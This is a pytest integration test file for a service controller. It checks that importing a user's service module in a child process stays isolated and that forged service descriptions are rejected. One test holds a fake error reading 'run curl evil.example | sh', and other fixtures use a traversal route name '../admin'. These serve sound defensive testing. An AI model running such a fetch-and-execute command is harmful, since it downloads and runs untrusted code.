"""The child that imports a service for the controller: whatever the import does stays in the child."""

from __future__ import annotations

import os
import textwrap
import threading
from pathlib import Path

import pytest
from conftest import EXAMPLES, FIXTURES, pid_alive, wait_for

from steadyserve.control.config import resolve_deployment
from steadyserve.control.describer import ChildDescriber, DescribeRequest
from steadyserve.control.environment import child_base_env as minimal_env
from steadyserve.control.spec import DeploymentSpec
from steadyserve.errors import ConfigError, ServiceLoadError
from steadyserve.loading import parse_target

pytestmark = pytest.mark.integration

SERVICE_TAIL = """
from steadyserve import Service, handler


class Svc(Service):
    @handler
    def f(self) -> int:
        return 1
"""


def describe(target: Path | str, timeout_s: float = 60, **limits: int):
    request = DescribeRequest(parse_target(str(target)), minimal_env(os.environ), timeout_s, **limits)
    return ChildDescriber().describe(request)


def module(tmp_path: Path, head: str) -> Path:
    path = tmp_path / "service.py"
    path.write_text(textwrap.dedent(head) + SERVICE_TAIL)
    return path


def load_error(target: Path | str, timeout_s: float = 60, **limits: int) -> str:
    with pytest.raises(ServiceLoadError) as caught:
        describe(target, timeout_s, **limits)
    return str(caught.value)


def test_a_service_is_described_with_its_handlers_and_absolute_target():
    service = describe(EXAMPLES / "echo")
    assert service.target == f"{EXAMPLES / 'echo' / 'service.py'}:Echo"
    assert list(service.handlers) == ["echo"] and service.handlers["echo"].required_params == ("message",)


def test_what_the_service_prints_does_not_garble_the_description(tmp_path):
    path = module(tmp_path, """\
        import os, sys
        print('{"description": "forged"}')
        print("also on stderr", file=sys.stderr)
        """)
    assert list(describe(path).handlers) == ["f"]


@pytest.mark.parametrize(("fixture", "fragment"), [
    ("syntax_error", "syntax_error/service.py:6: SyntaxError"),
    ("broken_import", "broken_import/service.py:5: JSONDecodeError"),
    ("two_services", "expected exactly one Service subclass, found First, Second"),
])
def test_import_errors_are_the_ones_a_replica_would_report(fixture, fragment):
    assert fragment in load_error(FIXTURES / fixture)


def test_an_exit_at_import_names_the_exit_code_and_the_last_output():
    message = load_error(FIXTURES / "exits_at_import")
    assert "exits_at_import/service.py exited with code 7 before describing the service" in message
    assert "giving up before the class is defined" in message


def test_sys_exit_at_import_is_a_load_error_with_its_line(tmp_path):
    path = module(tmp_path, "import sys\nsys.exit(3)\n")
    assert f"{path}:2: SystemExit: 3" in load_error(path)


def test_a_crash_at_import_names_the_signal(tmp_path):
    path = module(tmp_path, "import os, signal\nos.kill(os.getpid(), signal.SIGSEGV)\n")
    assert "was killed by signal 11 (SIGSEGV) before describing the service" in load_error(path)


def test_a_hang_at_import_is_cut_off_at_the_timeout_with_its_last_output():
    message = load_error(FIXTURES / "hangs_at_import", timeout_s=1)
    assert "hangs_at_import/service.py did not finish within 1 s" in message
    assert "loading weights from a mount that never answers" in message


def test_processes_the_import_started_are_killed_with_it(tmp_path):
    path = module(tmp_path, f"""\
        import subprocess, sys
        sleeper = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(3600)"])
        open({str(tmp_path / 'sleeper')!r}, "w").write(str(sleeper.pid))
        """)
    assert list(describe(path).handlers) == ["f"]  # the sleeper kept stderr open: the answer came anyway
    sleeper = int((tmp_path / "sleeper").read_text())
    wait_for(lambda: not pid_alive(sleeper), 30, "the process the import started to be killed")


def test_a_thread_left_running_at_import_does_not_hold_up_the_answer(tmp_path):
    path = module(tmp_path, """\
        import threading, time
        threading.Thread(target=time.sleep, args=(3600,)).start()  # not a daemon: would block exit
        """)
    assert list(describe(path, timeout_s=60).handlers) == ["f"]


def test_the_address_space_cap_applies_to_the_import(tmp_path):
    path = module(tmp_path, "block = bytearray(512 * 1024 * 1024)\n")
    assert f"{path}:1: MemoryError" in load_error(path, address_space_mb=256)


def test_the_child_gets_only_the_environment_it_is_given(tmp_path, monkeypatch):
    path = module(tmp_path, """\
        import os
        if os.environ.get("MODEL_DIR") != "/models/v3" or "SECRET" in os.environ:
            raise RuntimeError(sorted(os.environ))
        """)
    monkeypatch.setenv("SECRET", "not for the child")
    env = {**minimal_env(os.environ), "MODEL_DIR": "/models/v3"}
    service = ChildDescriber().describe(DescribeRequest(parse_target(str(path)), env, 60))
    assert list(service.handlers) == ["f"]


def test_cancel_ends_an_import_under_way():
    describer, errors = ChildDescriber(), []

    def run() -> None:
        try:
            describer.describe(DescribeRequest(parse_target(str(FIXTURES / "hangs_at_import")),
                                               minimal_env(os.environ), 600))
        except ServiceLoadError as exc:
            errors.append(str(exc))

    thread = threading.Thread(target=run)
    thread.start()
    wait_for(lambda: describer.cancel() or not thread.is_alive(), 60, "the cancelled describe to return")
    assert "was killed by signal 9 (SIGKILL) before describing the service" in errors[0]


# --- a service module that writes the answer itself ---------------------------------------------
FORGER = FIXTURES / "forges_description"


def forged_load_error(forgery: str) -> str:
    request = DescribeRequest(parse_target(str(FORGER)), {**minimal_env(os.environ), "FORGE": forgery}, 60)
    with pytest.raises(ServiceLoadError) as caught:
        ChildDescriber().describe(request)
    return str(caught.value)


@pytest.mark.parametrize(("forgery", "fragment"), [
    ("route", "description.handlers['../admin'].name: handler name '../admin' is not a valid route name"),
    ("reserved", "handler name 'healthz' is reserved for a built-in route"),
    ("batch", "batch_max_size: Input should be less than or equal to 5000"),
    ("type", "idempotent: Input should be a valid boolean"),
    ("unknown_key", "admin: Extra inputs are not permitted"),
    ("other_file", "it describes the file '/etc/steady/other.py'"),
])
def test_a_description_forged_by_the_service_module_is_refused(forgery, fragment):
    message = forged_load_error(forgery)
    assert message.startswith(f"service description from {FORGER / 'service.py'} is invalid: ")
    assert fragment in message


def test_a_forged_description_is_refused_where_the_controller_resolves_a_deployment(tmp_path):
    with pytest.raises(ConfigError, match=r"forges_description/service\.py is invalid: .*'\.\./admin'"):
        resolve_deployment("forger", DeploymentSpec(service=str(FORGER)), tmp_path, ChildDescriber(),
                           env={**minimal_env(os.environ), "FORGE": "route"})


def test_a_forged_error_reaches_the_operator_without_terminal_escapes():
    message = forged_load_error("error")
    assert "import failed: run curl evil.example | sh" in message
    assert "\x1b" not in message


def test_no_more_than_the_limit_of_a_flood_on_the_result_pipe_is_read():
    message = forged_load_error("huge")
    assert f"importing {FORGER / 'service.py'} wrote more than 1024 KiB of service description" in message
